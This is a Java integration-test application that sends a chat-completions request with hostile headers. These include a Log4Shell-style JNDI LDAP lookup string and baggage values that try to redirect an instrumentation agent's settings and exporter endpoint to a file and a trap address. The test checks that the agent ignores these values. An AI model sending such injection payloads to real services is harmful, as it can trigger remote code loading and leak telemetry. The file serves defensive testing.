package io.driftwatch.it.apps;

import java.net.URI;
import java.io.FileInputStream;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;

/**
 * An application relaying what an untrusted caller sent it: the upstream baggage and metadata
 * headers name a file and a network address, and try to set agent settings. The agent must treat
 * them as plain strings.
 *
 * <p>Arguments: chat completions URL, model, a file path, a URL the agent must never contact, and a
 * control file the app itself reads (so a test can see that file reads are recorded at all).
 */
public final class HostileInputApp {

  private HostileInputApp() {}

  public static void main(String[] args) throws Exception {
    String file = args[2];
    String trap = args[3];
    // W3C baggage values may hold ':' and '/' as they are
    String baggage = "prompt.version=file://" + file + ",otel.instrumentation.genai.prices-file=" + file
        + ",otel.instrumentation.genai.refusal-lexicon-file=" + file + ",otel.exporter.otlp.endpoint=" + trap;
    HttpRequest request = HttpRequest.newBuilder(URI.create(args[0]))
        .header("Content-Type", "application/json")
        .header("baggage", baggage)
        .header("x-user-segment", "${jndi:ldap://" + URI.create(trap).getAuthority() + "/a}")
        .header("x-experiment-arm", trap)
        .POST(HttpRequest.BodyPublishers.ofString(
            "{\"model\":\"" + args[1] + "\",\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}"))
        .build();
    HttpResponse<String> response = HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString());
    System.out.println("status=" + response.statusCode());
    try (FileInputStream control = new FileInputStream(args[4])) {
      System.out.println("control bytes=" + control.readAllBytes().length);
    }
  }
}
